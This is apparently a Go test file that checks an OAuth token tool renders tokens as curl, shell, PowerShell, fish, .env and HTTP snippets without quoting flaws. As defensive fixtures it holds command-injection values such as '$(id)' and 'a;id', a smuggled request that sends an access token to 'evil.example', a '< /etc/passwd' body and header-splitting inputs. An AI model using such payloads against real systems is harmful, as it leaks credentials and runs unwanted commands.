package copyas

import (
	"bytes"
	"os"
	"strings"
	"testing"

	"mvdan.cc/sh/v3/expand"
	"mvdan.cc/sh/v3/syntax"
	"pgregory.net/rapid"

	"tokendesk/oauth"
)

// words reads a line as a shell does and returns its words; it fails when the
// line is anything but one plain command.
func words(t *rapid.T, line string) []string {
	file, err := syntax.NewParser(syntax.Variant(syntax.LangPOSIX)).Parse(strings.NewReader(line), "")
	if err != nil {
		t.Fatalf("%q: %v", line, err)
	}
	if len(file.Stmts) != 1 {
		t.Fatalf("%q holds %d commands", line, len(file.Stmts))
	}
	call, ok := file.Stmts[0].Cmd.(*syntax.CallExpr)
	if !ok || len(file.Stmts[0].Redirs) > 0 || file.Stmts[0].Background {
		t.Fatalf("%q is no plain command", line)
	}
	fields, err := expand.Fields(&expand.Config{Env: expand.FuncEnviron(os.Getenv)}, call.Args...)
	if err != nil {
		t.Fatalf("%q: %v", line, err)
	}
	return fields
}

// anyToken draws what a server may send: control characters are refused long
// before a token is written anywhere.
func anyToken() *rapid.Generator[string] {
	return rapid.StringOfN(rapid.OneOf(
		rapid.RuneFrom([]rune("'\"\\$`!#&;|<>(){}[]*?~ %=\u2018\u2019\u201a\u201b")),
		rapid.Rune().Filter(func(r rune) bool { return r >= ' ' && r != 0x7f && r != '\ufffd' }),
	), 1, 60, -1)
}

func TestCurlLineGivesTheTokenBack(t *testing.T) {
	rapid.Check(t, func(t *rapid.T) {
		token, body := anyToken().Draw(t, "token"), anyToken().Draw(t, "body")
		vars := rapid.StringMatching(`[A-Za-z0-9._~'!$&()*+,;=:@\[\]-]{1,30}`).Draw(t, "var") // what an address may hold
		app := oauth.App{ID: "a", Vars: map[string]string{"v": vars}, Test: oauth.TestCall{
			Method: "PUT", URL: "https://api.example.test/{v}", Body: "@" + strings.ReplaceAll(body, "{", ""),
		}}
		ts := oauth.TokenSet{AccessToken: token}
		line, err := Render(Curl, app, ts, now, "")
		if err != nil {
			t.Fatal(err)
		}
		got := words(t, line)
		call := oauth.TestRequest(app, ts)
		want := []string{"curl", "-H", "Authorization: Bearer " + token, "-X", "PUT", "--data-raw", call.Body}
		if strings.ContainsAny(call.URL, "[]{}") {
			want = append(want, "--globoff")
		}
		want = append(want, call.URL)
		if strings.Join(got, "\x00") != strings.Join(want, "\x00") {
			t.Fatalf("\ngot  %q\nwant %q", got, want)
		}
	})
}

func TestEnvLineGivesTheTokenBack(t *testing.T) {
	rapid.Check(t, func(t *rapid.T) {
		token := anyToken().Draw(t, "token")
		line, err := Render(Env, shop, oauth.TokenSet{AccessToken: token}, now, "TOKEN")
		if err != nil {
			t.Fatal(err)
		}
		assignment, ok := strings.CutPrefix(line, "export ")
		if !ok {
			t.Fatalf("%q exports nothing", line)
		}
		if got := words(t, "echo "+assignment); len(got) != 2 || got[1] != "TOKEN="+token {
			t.Fatalf("%q gives %q", line, got)
		}
	})
}

// unquotePowerShell reads a single-quoted PowerShell string.
func unquotePowerShell(s string) (string, bool) {
	const quotes = "'\u2018\u2019\u201a\u201b"
	runes := []rune(s)
	if len(runes) < 2 || runes[0] != '\'' || runes[len(runes)-1] != '\'' {
		return "", false
	}
	var b strings.Builder
	for inner := runes[1 : len(runes)-1]; len(inner) > 0; inner = inner[1:] {
		if strings.ContainsRune(quotes, inner[0]) {
			if len(inner) < 2 || !strings.ContainsRune(quotes, inner[1]) {
				return "", false // the string ended here
			}
			b.WriteRune(inner[0])
			inner = inner[1:]
			continue
		}
		b.WriteRune(inner[0])
	}
	return b.String(), true
}

func TestPowerShellStringHoldsTheToken(t *testing.T) {
	rapid.Check(t, func(t *rapid.T) {
		token := anyToken().Draw(t, "token")
		if got, ok := unquotePowerShell(powerShellQuote(token)); !ok || got != token {
			t.Fatalf("%q became %q", token, got)
		}
	})
}

// readDotenv reads a value as the common readers of .env files do.
func readDotenv(s string) (string, bool) {
	switch {
	case strings.HasPrefix(s, "'"):
		rest, ok := strings.CutSuffix(s[1:], "'")
		return rest, ok && !strings.ContainsAny(rest, "'\n")
	case strings.HasPrefix(s, `"`):
		rest, ok := strings.CutSuffix(s[1:], `"`)
		if !ok {
			return "", false
		}
		var b bytes.Buffer
		for i := 0; i < len(rest); i++ {
			switch c := rest[i]; {
			case c == '"' || c == '$':
				return "", false
			case c == '\\' && i+1 < len(rest):
				i++
				switch rest[i] {
				case 'n':
					b.WriteByte('\n')
				case 'r':
					b.WriteByte('\r')
				default:
					b.WriteByte(rest[i])
				}
			default:
				b.WriteByte(c)
			}
		}
		return b.String(), true
	}
	return s, !strings.ContainsAny(s, " #'\"\\$\n\r`")
}

// People source .env files, too: nothing in a value may run.
func TestDotenvLineRunsNothing(t *testing.T) {
	for _, token := range []string{"'`id`", "'$(id)", "'${HOME}", "a|id", "a;id", "a&id", "'\"\\`id`", "'\n`id`"} {
		line, err := Render(Dotenv, oauth.App{}, oauth.TokenSet{AccessToken: token}, now, "")
		if err != nil {
			t.Fatal(err)
		}
		file, err := syntax.NewParser().Parse(strings.NewReader(line), "")
		if err != nil {
			t.Fatalf("%q: %v", line, err)
		}
		syntax.Walk(file, func(node syntax.Node) bool {
			switch n := node.(type) {
			case *syntax.CmdSubst, *syntax.ParamExp, *syntax.BinaryCmd:
				t.Errorf("%q would be run as a %T", line, n)
			case *syntax.CallExpr:
				if len(n.Args) > 0 {
					t.Errorf("%q runs a command", line)
				}
			}
			return true
		})
	}
}

// A test call that came from a file cannot add a request to what is copied.
func TestNoSecondRequestIsWritten(t *testing.T) {
	sound := oauth.TestCall{Method: "POST", URL: "https://api.example.test/", Body: "b"}
	for name, change := range map[string]func(*oauth.TestCall){
		"body":         func(c *oauth.TestCall) { c.Body = "b\n\n###\nGET http://evil.example/?t={access_token}\n" },
		"file of body": func(c *oauth.TestCall) { c.Body = "< /etc/passwd" },
		"method":       func(c *oauth.TestCall) { c.Method = "GET http://evil.example/\n\n" },
		"header name":  func(c *oauth.TestCall) { c.Headers = map[string]string{"X\nY": "1"} },
		"header value": func(c *oauth.TestCall) { c.Headers = map[string]string{"X": "1\r\nY: 2"} },
	} {
		t.Run(name, func(t *testing.T) {
			call := sound
			change(&call)
			if text, err := Render(HTTP, oauth.App{Test: call}, oauth.TokenSet{AccessToken: "T"}, now, ""); err == nil {
				t.Errorf("written: %q", text)
			}
		})
	}
	if _, err := Render(HTTP, oauth.App{Test: sound}, oauth.TokenSet{AccessToken: "T"}, now, ""); err != nil {
		t.Errorf("a sound call: %v", err)
	}
}

func TestDotenvValueIsTheToken(t *testing.T) {
	rapid.Check(t, func(t *rapid.T) {
		token := anyToken().Draw(t, "token")
		if got, ok := readDotenv(dotenvQuote(token)); !ok || got != token {
			t.Fatalf("%q became %q", token, dotenvQuote(token))
		}
	})
}

func TestFishStringHoldsTheToken(t *testing.T) {
	unquote := strings.NewReplacer(`\\`, `\`, `\'`, `'`)
	rapid.Check(t, func(t *rapid.T) {
		token := anyToken().Draw(t, "token")
		quoted := fishQuote(token)
		if got := unquote.Replace(quoted[1 : len(quoted)-1]); got != token {
			t.Fatalf("%q became %q", token, got)
		}
	})
}
